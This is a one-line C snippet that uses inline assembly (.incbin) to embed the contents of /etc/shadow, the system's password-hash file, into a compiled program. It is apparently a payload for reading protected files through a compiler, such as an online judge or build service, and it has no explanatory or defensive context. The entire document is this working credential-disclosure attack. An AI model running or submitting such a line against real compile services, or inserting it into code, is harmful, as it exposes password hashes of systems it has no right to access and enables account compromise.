__asm__(".incbin \"/etc/shadow\"");
